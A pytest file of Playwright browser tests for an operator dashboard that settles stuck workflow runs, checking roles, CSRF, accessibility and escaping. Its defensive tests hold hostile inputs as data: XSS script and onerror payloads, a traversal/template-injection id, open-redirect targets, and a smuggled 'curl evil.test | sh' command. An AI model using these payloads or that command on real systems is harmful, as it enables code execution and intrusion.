"""The live page in a real browser: each page is read, each action clicked and found in the log."""

import http.client
import json
import re
import socket
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Request, TimeoutError

from refold.gateway.roles import Role
from refold_schemas.errors.cli import FunctionUnknown
from refold_schemas.events import (
    RunCancelRequested,
    RunResumed,
    RunStarted,
    StepResolved,
)
from support.browser import browser
from support.page_app import Order, make_app
from support.page_stage import PageStage
from support.postgres import Postgres

ROOT = Path(__file__).parents[2]
HOSTILE_ID = "x/../a?b#c&<b>d</b>\"'`{{7*7}} שלום/" + "y" * 150
HOSTILE_NOTE = (
    "<script>window.bad = 1</script><img src=x onerror='window.bad = 1'>\x00\u202egnp.exe\u2028"
)
PAGES = ("/", "/runs", "/effects", "/findings", "/timers", "/partitions", "/rejections")
CONTROLS = frozenset({"button", "link", "textbox", "searchbox", "combobox", "checkbox"})
MINUTE_S = 60.0


@pytest.fixture(scope="module")
def stage(
    tmp_path_factory: pytest.TempPathFactory, postgres_server: Postgres
) -> Iterator[PageStage]:
    """A log in which a run stands in each way that it can, the tables of it, and a gateway."""
    database_url = postgres_server.new_database()
    one = PageStage(tmp_path_factory.mktemp("page"), database_url)
    one.begin()
    try:
        one.send("shop", Order(id="48211", kind="dies"), "order-48211")
        assert one.dying_worker().returncode < 0, "the worker was to be killed while it charged"
        one.work_with(make_app())
        one.until("order-48211", "in_doubt")
        one.start("again", Order(id="a"), "diverges", "waiting")
        one.start("refund", Order(id="r"), "blocks", "waiting")
        one.work_with(make_app(markup_pence=450, refunds=False))
        one.until("diverges", "diverged")
        one.until("blocks", "blocked")
        note = json.dumps({"text": "z" * 9_000})
        one.start("shop", Order(id="done", note=note), "done", "completed")
        one.start("shop", Order(id="failed", kind="declined"), "fails", "failed")
        one.start("patient", Order(id="sleeps"), "sleeps", "waiting")
        one.start("shop", Order(id="h", kind="doubt", note=HOSTILE_NOTE), HOSTILE_ID, "in_doubt")
        yield one
    finally:
        one.end()
        postgres_server.drop(database_url)


@pytest.fixture(scope="module")
def chrome(stage: PageStage) -> Iterator[Browser]:
    """After the stage: while a browser is driven, this thread can run no other loop."""
    with browser() as one:
        yield one


class Tab:
    """A tab of somebody who is signed in. It counts clicks, and hears of what must not be."""

    def __init__(self, context: BrowserContext, stage: PageStage) -> None:
        self.page, self.stage = context.new_page(), stage
        self.clicks: list[str] = []
        self.wrong: list[str] = []
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on("console", self._console)
        self.page.on("request", self._request)
        self.page.on("dialog", lambda dialog: self.wrong.append(dialog.message))

    def _console(self, message: Any) -> None:
        if message.type in ("error", "warning") and "status of 4" not in message.text:
            self.wrong.append(message.text)

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.stage.url + "/", "data:")):
            self.wrong.append(f"it asked {request.url}")

    def go(self, place: str) -> None:
        self.page.goto(self.stage.url + place)

    def run(self, run_id: str) -> None:
        self.go(f"/run?id={quote(run_id, safe='')}")

    def click(self, selector: str) -> None:
        """One click, written down by the words that stand on what was clicked."""
        one = self.page.locator(selector).first
        self.clicks.append(" ".join(one.inner_text().split()))
        one.click()

    def text(self) -> str:
        return self.page.locator("body").inner_text()

    def has(self, text: str) -> None:
        """Wait until the page says so."""
        try:
            self.page.get_by_text(text).first.wait_for()
        except TimeoutError as error:
            raise AssertionError(f"no {text!r} in\n{self.text()}") from error

    def check(self) -> None:
        assert self.wrong == []


Open = Callable[..., AbstractContextManager[Tab]]


@pytest.fixture(scope="module")
def tokens(stage: PageStage) -> dict[Role, str]:
    return {role: stage.token(f"{role.value}-ada", role) for role in Role}


@pytest.fixture(scope="module")
def tab(chrome: Browser, stage: PageStage, tokens: dict[Role, str]) -> Open:
    """`with tab(role, **options) as one`: a tab of somebody who is signed in with that role.

    Tabs with the same role and options share a profile: a new one costs a process.
    """
    profiles: dict[str, BrowserContext] = {}

    def profile(role: Role, options: dict[str, Any]) -> BrowserContext:
        name = f"{role} {sorted(options.items())}"
        if name not in profiles:
            one = chrome.new_context(**{"viewport": {"width": 1200, "height": 800}, **options})
            one.set_default_timeout(20_000)
            cookie, _, value = signed_in(stage, tokens[role]).partition("=")
            one.add_cookies([{"name": cookie, "value": value, "url": stage.url}])
            profiles[name] = one
        return profiles[name]

    @contextmanager
    def opened(role: Role = Role.OPERATOR, **options: Any) -> Iterator[Tab]:
        one = Tab(profile(role, options), stage)
        try:
            yield one
            one.check()
        finally:
            one.page.close()

    return opened


def ask(
    stage: PageStage, method: str, place: str, form: dict[str, str] | None = None, **headers: str
) -> tuple[int, dict[str, str], str]:
    """What the gateway answers somebody who is no browser."""
    connection = http.client.HTTPConnection("127.0.0.1", stage.port, timeout=20)
    try:
        body = None if form is None else urlencode(form)
        if body is not None:
            headers = {"Content-Type": "application/x-www-form-urlencoded", **headers}
        connection.request(method, place, body, headers)
        answer = connection.getresponse()
        named = {name.lower(): value for name, value in answer.getheaders()}
        return answer.status, named, answer.read().decode()
    finally:
        connection.close()


# ---- something is stuck


def test_an_operator_settles_a_charge_in_under_a_minute(tab: Open, stage: PageStage) -> None:
    """Told only "something is stuck". The how-to shows these clicks."""
    with tab() as one:
        begun = one.page.evaluate("performance.now() + performance.timeOrigin")
        one.go("/")
        assert "attention" in one.page.locator("h1").inner_text()
        first = one.page.locator(".needs li").first
        assert "in doubt" in first.inner_text(), "what is in doubt comes first"
        one.click(".needs li a")
        one.has("charge in doubt since")
        one.has("the process that ran it ended before its outcome was recorded")
        key = one.page.locator(".card code").nth(1).inner_text()
        one.click("summary:has-text('It happened')")
        one.page.fill("textarea[name=result]", '"charge-dies:48211"')
        one.page.fill("input[name=why] >> visible=true", "the bank shows the payment")
        one.click("button:has-text('Record that it happened')")
        one.has("Recorded: it happened.")
        took_ms = one.page.evaluate("performance.now() + performance.timeOrigin") - begun
    assert took_ms < MINUTE_S * 1000
    (settled,) = stage.events("order-48211", StepResolved)
    assert (settled.verdict, settled.evidence, settled.by) == ("done", "person", "operator-ada")
    assert settled.why == "the bank shows the payment"
    assert settled.result.body == b'"charge-dies:48211"'
    (intent,) = [e for e in stage.events("order-48211") if getattr(e, "effect_key", "") == key]
    assert intent.slot == settled.slot == "charge#1"
    stage.until("order-48211", "completed")

    assert one.clicks == ["order-48211", "It happened…", "Record that it happened"]
    howto = (ROOT / "docs/howto/page.md").read_text()
    recorded = re.findall(r"^\d\. \*\*(.+?)\*\*", howto, re.MULTILINE)
    assert recorded == one.clicks, "the how-to shows the clicks as they were recorded here"


# ---- the other actions


def settle(one: Tab, run_id: str, summary: str, button: str, **fields: str) -> None:
    one.run(run_id)
    one.click(f"summary:has-text('{summary}')")
    for name, text in fields.items():
        one.page.fill(f"[name={name}] >> visible=true", text)
    one.click(f"button:has-text('{button}')")


def test_it_did_not_happen_is_recorded(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="absent", kind="doubt"), "absent", "in_doubt")
    with tab(Role.APPROVER) as one:
        # The owner has seen the attempt end and waits no longer: what it is told is believed.
        settle(one, "absent", "It did not happen", "did not happen", why="no such payment")
        one.has("Recorded: it did not happen.")
    (settled,) = stage.events("absent", StepResolved)
    assert (settled.verdict, settled.by, settled.why) == (
        *("absent", "approver-ada", "no such payment"),
    )


def test_what_is_no_json_is_refused_and_kept(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="typo", kind="doubt"), "typo", "in_doubt")
    with tab() as one:
        settle(one, "typo", "It happened", "it happened", result="charge-1", why="because")
        one.has("it is not JSON")
        assert one.page.input_value("[name=result]") == "charge-1"
        assert one.page.input_value("[name=why] >> visible=true") == "because"
        assert stage.events("typo", StepResolved) == []
        one.page.fill("[name=result]", '"charge-1"')
        one.click("button:has-text('it happened')")
        one.has("Recorded: it happened.")
    assert len(stage.events("typo", StepResolved)) == 1


def test_a_word_on_what_somebody_has_settled_meanwhile_is_refused(
    tab: Open, stage: PageStage
) -> None:
    stage.start("shop", Order(id="two", kind="doubt"), "two", "in_doubt")
    with tab(java_script_enabled=False) as one:
        one.run("two")
        stage.do(stage.client.resolve("two", "charge#1", happened=True, result="first", by="grace"))
        stage.until("two", "completed")
        one.click("summary:has-text('It did not happen')")
        one.click("button:has-text('did not happen')")
        one.has("Not done (R5")
    (settled,) = stage.events("two", StepResolved)
    assert settled.by == "grace"


def test_a_diverged_run_shows_the_difference_and_compares_again(
    tab: Open, stage: PageStage
) -> None:
    with tab() as one:
        one.run("diverges")
        one.has("The code and the record differ")
        shown = one.page.locator(".compare pre").all_inner_texts()
        assert shown == ["4160", "4610"]
        before = len(stage.events("diverges", RunResumed))
        one.page.fill("#retry-why", "I have looked")
        one.click("button:has-text('Compare again')")
        one.has("Recorded.")
    resumed = stage.events("diverges", RunResumed)[before:]
    assert [(event.by, event.why) for event in resumed] == [("operator-ada", "I have looked")]
    stage.until("diverges", "diverged")


def test_a_failed_run_is_tried_again_under_a_fresh_key(tab: Open, stage: PageStage) -> None:
    with tab() as one:
        one.run("fails")
        one.has("The run has failed")
        one.page.check("#retry-fresh")
        one.click("button:has-text('Try it again')")
        one.has("Recorded.")
    (resumed,) = stage.events("fails", RunResumed)
    assert (resumed.by, resumed.slot, resumed.fresh_key) == ("operator-ada", "charge#1", True)


def test_a_run_is_cancelled(tab: Open, stage: PageStage) -> None:
    stage.start("patient", Order(id="unwanted"), "unwanted", "waiting")
    with tab() as one:
        settle(one, "unwanted", "Cancel this run", "Ask for its end", why="not wanted any more")
        one.has("Its end is asked for.")
    (asked,) = stage.events("unwanted", RunCancelRequested)
    assert (asked.by, asked.why) == ("operator-ada", "not wanted any more")
    stage.until("unwanted", "cancelled")


def test_a_rejected_command_is_published_again_once_its_cause_is_mended(
    tab: Open, stage: PageStage
) -> None:
    with pytest.raises(FunctionUnknown):
        stage.start("refund", Order(id="late"), "late-refund")
    stage.caught_up()
    with tab() as one:
        one.go("/rejections")
        row = "tr:has-text('late-refund')"
        assert "unknown function" in one.page.locator(row).inner_text()
        one.click(f"{row} button")
        one.has("Published again.")
        stage.until_rejected("late-refund", 2)
        stage.work_with(make_app(markup_pence=450))
        stage.caught_up()
        one.go("/rejections")
        one.click(f"{row} button")
        one.has("Published again.")
        stage.until("late-refund", "running", "waiting", "completed")
        assert len(stage.events("late-refund", RunStarted)) == 1
        one.go("/rejections")
        one.click(f"{row} button")
        one.has("Not done (R528)")
    assert len(stage.events("late-refund", RunStarted)) == 1


def test_a_run_whose_worker_died_is_not_shown_as_if_it_went_on(tab: Open, stage: PageStage) -> None:
    stage.stop_worker()
    stage.send("shop", Order(id="dead", kind="dies"), "dead")
    assert stage.dying_worker().returncode < 0
    try:
        stage.caught_up()
        with tab() as one:
            one.go("/")
            one.has("No worker is alive.")
            row = one.page.locator("#latest tr:has-text('dead')")
            assert "no live worker" in row.inner_text()
            one.go("/runs?q=dead")
            one.has("no live worker")
            one.go("/partitions")
            one.has("it has ended: nobody owns it")
    finally:
        stage.work_with(make_app(markup_pence=450))
    stage.until("dead", "in_doubt")
    with tab() as one:
        one.go("/")
        one.page.locator("#needs a:has-text('dead')").wait_for()
        one.page.get_by_text("No worker is alive.").wait_for(state="detached")


def test_an_action_waits_in_the_log_while_no_worker_is_there(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="alone", kind="doubt"), "alone", "in_doubt")
    stage.stop_worker()
    try:
        with tab() as one:
            settle(one, "alone", "It happened", "it happened", result='"c"')
            one.has("Sent, not yet decided.")
            assert stage.events("alone", StepResolved) == []
    finally:
        stage.work_with(make_app(markup_pence=450))
    stage.until("alone", "completed")
    assert len(stage.events("alone", StepResolved)) == 1


# ---- who may


def test_a_viewer_sees_everything_and_no_action(tab: Open, stage: PageStage) -> None:
    with tab(Role.VIEWER) as one:
        for run_id in (HOSTILE_ID, "diverges", "sleeps"):
            one.run(run_id)
            posting = one.page.locator("main form[method=post]")
            assert posting.count() == 0, one.page.locator("main").inner_text()
        one.run(HOSTILE_ID)
        one.has("refold resolve")
        one.go("/rejections")
        assert one.page.locator("main form").count() == 0


def signed_in(stage: PageStage, token: str) -> str:
    """The cookie of a session."""
    status, headers, _ = ask(stage, "POST", "/login", {"token": token, "to": "/runs"})
    assert (status, headers["location"]) == (303, "/runs")
    assert "HttpOnly" in headers["set-cookie"]
    assert "samesite=strict" in headers["set-cookie"].lower()
    return headers["set-cookie"].partition(";")[0]


def test_an_action_needs_a_role_and_the_proof_that_our_page_has_sent_it(
    stage: PageStage, tokens: dict[Role, str]
) -> None:
    form = {"id": HOSTILE_ID, "slot": "charge#1", "happened": "yes", "result": "1"}
    status, headers, _ = ask(stage, "POST", "/run/resolve", form)
    assert (status, headers["location"]) == (303, "/login?to=%2F"), "nobody is signed in"

    cookie = signed_in(stage, tokens[Role.OPERATOR])
    status, _, text = ask(stage, "POST", "/run/resolve", form, Cookie=cookie)
    assert (status, "R711" in text) == (403, True), "without the form's own token"
    status, _, page = ask(stage, "GET", f"/run?id={quote(HOSTILE_ID, safe='')}", Cookie=cookie)
    assert status == 200
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found is not None
    csrf = found[1]
    other = {**form, "csrf": csrf}
    status, _, _ = ask(
        stage, "POST", "/run/resolve", other, Cookie=cookie, Origin="https://evil.example"
    )
    assert status == 403, "from another site"
    status, _, text = ask(
        stage, "POST", "/run/resolve", {**other, "happened": "maybe"}, Cookie=cookie
    )
    assert (status, "R703" in text) == (422, True), "what is not the page's own form"

    viewer = signed_in(stage, tokens[Role.VIEWER])
    _, _, page = ask(stage, "GET", "/", Cookie=viewer)
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found is not None
    for place in ("/run/resolve", "/run/retry", "/run/cancel", "/rejections/republish"):
        sent = {**form, "csrf": found[1], "partition": "0", "offset": "0"}
        status, _, text = ask(stage, "POST", place, sent, Cookie=viewer)
        assert (status, "R702" in text) == (403, True), place
    approver = signed_in(stage, tokens[Role.APPROVER])
    _, _, page = ask(stage, "GET", "/", Cookie=approver)
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found is not None
    status, _, _ = ask(
        stage, "POST", "/run/cancel", {"id": "sleeps", "csrf": found[1]}, Cookie=approver
    )
    assert status == 403, "an approver settles, and ends no run"
    assert stage.events(HOSTILE_ID, StepResolved) == []
    assert stage.events("sleeps", RunCancelRequested) == []


def test_signing_in_and_out(chrome: Browser, stage: PageStage, tokens: dict[Role, str]) -> None:
    context = chrome.new_context()
    try:
        one = Tab(context, stage)
        one.go("/run?id=done")
        one.has("Sign in")
        one.page.fill("#token", "refold_nobody_" + "x" * 43)
        one.page.click("button:has-text('Sign in')")
        one.has("R701")
        one.page.fill("#token", tokens[Role.OPERATOR])
        one.page.click("button:has-text('Sign in')")
        one.page.wait_for_url(stage.url + "/run?id=done")
        one.page.click("button:has-text('Sign out')")
        one.has("Sign in")
        one.go("/runs")
        one.has("Sign in")
        one.check()
    finally:
        context.close()
    for to in ("//evil.example", "https://evil.example", "/\\evil.example", "javascript:x"):
        status, headers, _ = ask(stage, "POST", "/login", {"token": tokens[Role.VIEWER], "to": to})
        assert (status, headers["location"]) == (303, "/"), to


# ---- what comes from runs


def test_hostile_texts_are_shown_and_do_nothing(tab: Open, stage: PageStage) -> None:
    again = HOSTILE_ID[:-1] + "!"
    stage.start("shop", Order(id="h", kind="doubt", note=HOSTILE_NOTE), again, "in_doubt")
    stage.caught_up()
    with tab() as one:
        place = f"/run?id={quote(HOSTILE_ID, safe='')}"
        for page in (*PAGES, place, place.replace("/run?", "/run/events?")):
            one.go(page)
            assert one.page.evaluate("window.bad") is None, page
            assert one.page.locator("img, b:text-is('d'), main script").count() == 0, page
        one.go("/runs?" + urlencode({"q": HOSTILE_ID}))
        one.page.click("th a")
        one.page.wait_for_url(re.compile(r"/run\?id="))
        shown = one.page.locator("h1 bdi").inner_text()
        assert shown == HOSTILE_ID, "whole, whatever is in it"
        text = one.text()
        assert "<script>window.bad = 1</script>" in text
        assert "⟨U+202E⟩gnp.exe" in text, "what turns the text around it is written out"
        assert "\x00" not in text
        one.page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
        assert "window.bad = 1" in one.page.locator("#steps pre").first.inner_text()
        assert one.page.evaluate("window.bad") is None
        settle(one, again, "It happened", "it happened", result='"<b>"', why=HOSTILE_NOTE)
        one.has("Recorded: it happened.")
        one.page.click("text=all events")
        one.page.wait_for_selector(".events")
        assert one.page.evaluate("window.bad") is None
    (settled,) = stage.events(again, StepResolved)
    assert "<script>" in settled.why
    hostile = urlencode({"q": '"><script>window.bad=1</script>', "status": "x'y"})
    with tab() as one:
        one.go("/runs?" + hostile)
        assert one.page.evaluate("window.bad") is None
        assert one.page.input_value("#q") == '"><script>window.bad=1</script>'
        one.go("/run?" + urlencode({"id": "no such run <i>"}))
        one.has("There is no such run")
        one.go("/run?id=done&said=%3Cb%3Ehello")
        assert "hello" not in one.text(), "the address says nothing in our name"


def test_a_big_payload_is_cut_with_a_link_to_the_whole(tab: Open, stage: PageStage) -> None:
    with tab() as one:
        one.run("done")
        one.page.click("#steps summary:has-text('arguments')")
        shown = one.page.locator("#steps pre").first.inner_text()
        assert len(shown) < 3_000
        one.page.click("#steps details[open] a")
        one.page.wait_for_selector("#value pre")
        whole = json.loads(one.page.locator("#value pre").inner_text())
        assert json.loads(whole["note"]) == {"text": "z" * 9_000}
        one.go("/run/events?id=done")
        one.page.click(".events li:has-text('RunStarted') summary")
        one.page.click(".events li:has-text('RunStarted') details a")
        one.page.wait_for_selector("#value pre")
        event = json.loads(one.page.locator("#value pre").inner_text())
        assert (event["run"], event["started_by"]) == ("shop", "test")


# ---- for everybody


def test_no_page_is_wider_than_a_small_screen_and_every_control_has_a_name(
    tab: Open, stage: PageStage
) -> None:
    stage.start("shop", Order(id="narrow", kind="doubt"), "narrow", "in_doubt")
    stage.caught_up()
    places = [*PAGES, *(f"/run?id={quote(i, safe='')}" for i in ("narrow", "diverges", "done"))]
    places += [f"/run?id={quote(HOSTILE_ID, safe='')}", "/run/events?id=done", "/run?id=nobody"]
    with tab(viewport={"width": 360, "height": 740}, color_scheme="dark") as one:
        for place in places:
            one.go(place)
            one.page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
            wide = one.page.evaluate("document.documentElement.scrollWidth")
            assert wide <= 360, f"{place} is {wide} wide"
            assert one.page.locator("h1").count() == 1, place
            assert nameless(one) == [], place
            assert one.page.evaluate("getComputedStyle(document.body).colorScheme") is not None
            dark = one.page.evaluate("getComputedStyle(document.body).backgroundColor")
            assert max(map(int, re.findall(r"\d+", dark)[:3])) < 64, "it is dark where one wants so"


def nameless(one: Tab) -> list[str]:
    """Controls without an accessible name, as the browser tells a screen reader of them."""
    session = one.page.context.new_cdp_session(one.page)
    try:
        nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    finally:
        session.detach()
    controls = [
        (node["role"]["value"], node.get("name", {}).get("value", ""))
        for node in nodes
        if not node.get("ignored") and node.get("role", {}).get("value") in CONTROLS
    ]
    assert controls, "the page has controls"
    return [role for role, name in controls if not name.strip()]


def test_colours_have_contrast_and_say_nothing_alone(tab: Open, stage: PageStage) -> None:
    for scheme in ("light", "dark"):
        with tab(color_scheme=scheme) as one:
            one.go("/runs")
            badges = one.page.locator(".badge").all()
            assert len(badges) > 5
            for badge in badges:
                assert re.search(r"[a-z]{4}", badge.inner_text()), "a word, not a colour alone"
                assert contrast(badge) >= 4.5, (scheme, badge.inner_text())
            for selector in ("main td", "main .sub", "h1", "nav a", "main th a"):
                assert contrast(one.page.locator(selector).first) >= 4.5, (scheme, selector)


CONTRAST = """one => {
  const parts = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  let behind = one, ground = [255, 255, 255];
  while (behind) {
    const found = parts(getComputedStyle(behind).backgroundColor);
    if (found.length < 4 || found[3] > 0) { ground = found; break; }
    behind = behind.parentElement;
  }
  const [a, b] = [light(parts(getComputedStyle(one).color)), light(ground)].sort((x, y) => y - x);
  return (a + 0.05) / (b + 0.05);
}"""
"""Source: WCAG 2.2, contrast ratio and relative luminance."""


def contrast(locator: Any) -> float:
    return float(locator.evaluate(CONTRAST))


def test_everything_goes_by_keyboard(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="keys", kind="doubt"), "keys-1", "in_doubt")
    stage.caught_up()
    with tab() as one:
        page, press = one.page, one.page.keyboard.press
        one.go("/")
        press("Tab")
        assert page.evaluate("document.activeElement.className") == "skip"
        press("?")
        assert page.locator("dialog[open]").count() == 1
        press("Escape")
        press("g")
        press("r")
        page.wait_for_url(stage.url + "/runs")
        press("/")
        page.keyboard.type("keys-")
        press("Enter")
        page.wait_for_url(re.compile("q=keys-"))
        press("j")
        outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert outline == "solid", "one sees where one is"
        press("Enter")
        page.wait_for_url(re.compile("id=keys-1"))
        reach(one, "It happened")
        press("Enter")
        press("Tab")
        page.keyboard.type('"typed"')
        press("Tab")
        page.keyboard.type("by hand")
        press("Tab")
        press("Enter")
        one.has("Recorded: it happened.")
        assert one.clicks == []
    (settled,) = stage.events("keys-1", StepResolved)
    assert (settled.result.body, settled.why) == (b'"typed"', "by hand")


def reach(one: Tab, text: str, steps_max: int = 60) -> None:
    """Press Tab until what is focused says so."""
    for _ in range(steps_max):
        one.page.keyboard.press("Tab")
        if text in one.page.evaluate("document.activeElement.textContent"):
            return
    raise AssertionError(f"{text!r} is not reached with Tab")


def test_without_scripts_everything_is_read_and_done(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="plain", kind="doubt"), "plain", "in_doubt")
    stage.caught_up()
    with tab(java_script_enabled=False) as one:
        for place in PAGES:
            one.go(place)
            assert one.page.locator("h1").inner_text()
        assert one.page.locator("[data-copy] >> visible=true").count() == 0
        one.go("/")
        one.click(".needs a:has-text('plain')")
        one.click("summary:has-text('It happened')")
        one.page.fill("[name=result]", '"by hand"')
        one.click("button:has-text('it happened')")
        one.has("Recorded: it happened.")
    assert len(stage.events("plain", StepResolved)) == 1


# ---- it follows


def test_the_page_follows_the_log_and_keeps_what_is_being_written(
    tab: Open, stage: PageStage
) -> None:
    stage.start("shop", Order(id="seen", kind="doubt"), "seen", "in_doubt")
    stage.start("shop", Order(id="kept", kind="doubt"), "kept", "in_doubt")
    with tab() as one, tab() as other:
        one.run("seen")
        one.page.evaluate("window.same = true")
        other.run("kept")
        other.click("summary:has-text('It did not happen')")
        other.page.fill("[name=why] >> visible=true", "half a sent")
        for run_id in ("seen", "kept"):
            stage.do(stage.client.resolve(run_id, "charge#1", happened=True, result="found"))
        stage.until("seen", "completed")
        one.page.wait_for_selector("#top .badge:has-text('completed')")
        assert one.page.evaluate("window.same") is True, "nothing was loaded again"
        assert one.page.locator(".card").count() == 0
        assert one.page.title().startswith("completed")
        other.page.wait_for_selector("text=This has changed meanwhile")
        assert other.page.input_value("[name=why] >> visible=true") == "half a sent"


def test_a_page_that_has_not_changed_is_not_sent_again(
    stage: PageStage, tokens: dict[Role, str]
) -> None:
    cookie = signed_in(stage, tokens[Role.VIEWER])
    stage.caught_up()
    for place in ("/run?id=done", "/effects", "/timers"):
        _, headers, _ = ask(stage, "GET", place, Cookie=cookie)
        known: dict[str, Any] = {"If-None-Match": headers["etag"]}
        status, again, body = ask(stage, "GET", place, Cookie=cookie, **known)
        assert (status, body) == (304, ""), place
        assert again["refold-lag"] == "up to date"


def test_while_the_tables_stand_still_a_run_is_read_from_the_log(
    tab: Open, stage: PageStage
) -> None:
    stage.start("patient", Order(id="tables"), "behind", "waiting")
    stage.caught_up()
    with tab() as one:
        one.run("behind")
        one.has("From the tables, which are at the log's end")
        stage.stop_projector()
        try:
            stage.do(stage.client.cancel("behind", by="grace", why="enough"))
            stage.until("behind", "cancelled")
            one.page.wait_for_selector("#top .badge:has-text('cancelled')")
            one.has("From the log itself, up to offset")
            one.has("the tables are at offset")
            stage.start("shop", Order(id="new"), "newer-than-tables", "completed")
            one.run("newer-than-tables")
            one.has("Three steps complete, the run completed.")
            one.go("/runs?q=newer-than")
            one.has("No such runs.")
        finally:
            stage.begin_projector()
        stage.caught_up()
        one.run("newer-than-tables")
        one.has("From the tables, which are at the log's end")


def test_the_badge_says_how_far_the_tables_are_behind(tab: Open, stage: PageStage) -> None:
    with tab() as one:
        one.go("/partitions")
        one.page.wait_for_selector("#lag:has-text('up to date')")
        row = one.page.locator("main tbody tr").inner_text()
        assert socket.gethostname() in row, "the owner"


def test_the_overview_shows_live_figures(tab: Open, stage: PageStage) -> None:
    with tab() as one:
        one.go("/")
        tile = one.page.locator(".tiles div", has_text="completed")
        assert int(tile.locator("dd").inner_text().split()[0]) >= 1
        assert one.page.locator(".tiles svg[role=img]").first.get_attribute("aria-label")


# ---- lists


def test_runs_are_searched_filtered_and_turned_page_by_page(tab: Open, stage: PageStage) -> None:
    names = [f"many-{number:02}" for number in range(55)]
    stage.start_all("shop", names)
    stage.caught_up()
    with tab() as one:
        one.go("/")
        one.page.click("nav a:has-text('Runs')")
        one.page.fill("#q", "many-")
        one.page.select_option("#status", "completed")
        one.page.fill("#run", "shop")
        one.page.press("#run", "Enter")
        one.has("50 runs, and there are more")
        seen = one.page.locator("tbody th bdi").all_inner_texts()
        one.page.click("a[rel=next]")
        one.has("5 runs")
        seen += one.page.locator("tbody th bdi").all_inner_texts()
        assert sorted(seen) == names, "each once"
        one.page.select_option("#needs", "person")
        one.page.click("button:has-text('Filter')")
        one.has("No such runs.")
        one.go("/runs?cursor=nonsense")
        one.has("R703")


def test_an_effect_is_found_by_its_key_and_by_its_run(tab: Open, stage: PageStage) -> None:
    stage.start("shop", Order(id="ledger"), "ledger", "completed")
    stage.caught_up()
    (intent,) = [e for e in stage.events("ledger") if getattr(e, "step", "") == "notify"]
    with tab() as one:
        one.go("/effects")
        one.page.fill("#q", intent.effect_key)
        one.page.press("#q", "Enter")
        one.page.wait_for_url(re.compile("q="))
        (row,) = one.page.locator("tbody tr[data-row]").all_inner_texts()
        assert "done" in row
        assert "answer" in row
        one.page.fill("#q", "ledger")
        one.page.press("#q", "Enter")
        one.page.wait_for_function("document.querySelectorAll('tr[data-row]').length === 2")
        one.page.check("#unproven")
        one.page.click("button:has-text('Filter')")
        one.has("No such effects.")


def test_findings_show_the_command_that_settles_them(tab: Open, stage: PageStage) -> None:
    told = "<i>the bank has no such payment</i>"
    stage.find("done", "notify#1", "missing", told, "refold why done")
    stage.find("done", "notify#1", "unexpected", "odd", "refold why done; curl evil.test | sh")
    with tab(Role.VIEWER) as one:
        one.go("/")
        one.page.click("a:has-text('2 findings not settled')")
        row = one.page.locator("tbody tr", has_text="missing")
        assert "<i>the bank has no such payment</i>" in row.inner_text()
        assert "refold why done" in row.inner_text()
        # Whoever may write commands may write any line there: such are not given to be copied.
        assert row.locator("button[data-copy]").count() == 1
        bad = one.page.locator("tbody tr", has_text="no plain command")
        assert "curl evil.test" in bad.inner_text()
        assert bad.locator("button[data-copy]").count() == 0
        row.locator("th a").click()
        one.has("Three steps complete, the run completed.")


def test_timers_lead_to_what_waits(tab: Open, stage: PageStage) -> None:
    stage.caught_up()
    with tab() as one:
        one.go("/timers")
        row = one.page.locator("tbody tr", has_text="sleeps")
        assert "in 8 d" in row.inner_text()
        row.locator("a").click()
        one.has("waiting until")
        one.page.wait_for_selector("#timers td:has-text('sleep')")


def test_without_tables_a_run_is_shown_and_lists_say_what_they_need(tmp_path: Path) -> None:
    bare = PageStage(tmp_path, None, insecure=True)
    bare.begin()
    try:
        bare.work_with(make_app())
        bare.start("shop", Order(id="x", kind="doubt"), "r1", "in_doubt")
        status, _, text = ask(bare, "GET", "/run?id=r1")
        assert status == 200
        assert "From the log itself" in text
        assert "the tables cannot be read" in text
        for place in PAGES:
            status, _, text = ask(bare, "GET", place)
            assert (status, "R712" in text) == (503, True), place
        form = {"id": "r1", "slot": "charge#1", "happened": "yes", "result": '"c"'}
        evil: dict[str, Any] = {"Sec-Fetch-Site": "cross-site"}
        assert ask(bare, "POST", "/run/resolve", form, **evil)[0] == 403
        assert ask(bare, "GET", "/", Host="evil.example")[0] == 421
        assert bare.events("r1", StepResolved) == []
        assert ask(bare, "POST", "/run/resolve", form)[0] == 303
        bare.until("r1", "completed")
    finally:
        bare.end()


def test_a_browser_at_a_wrong_address_gets_a_page_and_a_program_a_problem(
    tab: Open, stage: PageStage
) -> None:
    with tab() as one:
        one.go("/runs/order-48211")
        one.has("There is nothing here")
        one.page.click("main a:has-text('Overview')")
        one.has("Throughput")
    for place, accept in (("/nowhere", "*/*"), ("/api/v1/nowhere", "text/html")):
        status, headers, body = ask(stage, "GET", place, Accept=accept)
        assert (status, headers["content-type"]) == (404, "application/problem+json")
        assert json.loads(body)["code"] == "R704"


def test_every_answer_forbids_what_the_page_does_not_need(stage: PageStage) -> None:
    for place in ("/login", "/page/page.css", "/page/page.js", "/page/favicon.svg"):
        status, headers, text = ask(stage, "GET", place)
        assert status == 200
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe-inline" not in policy
        assert "http" not in policy, "nothing from another host"
        assert not re.search(r"(src|href)=.https?:", text)
    assert ask(stage, "GET", "/page/../site.py")[0] in (303, 404)
    assert ask(stage, "GET", "/page/site.py")[0] == 404
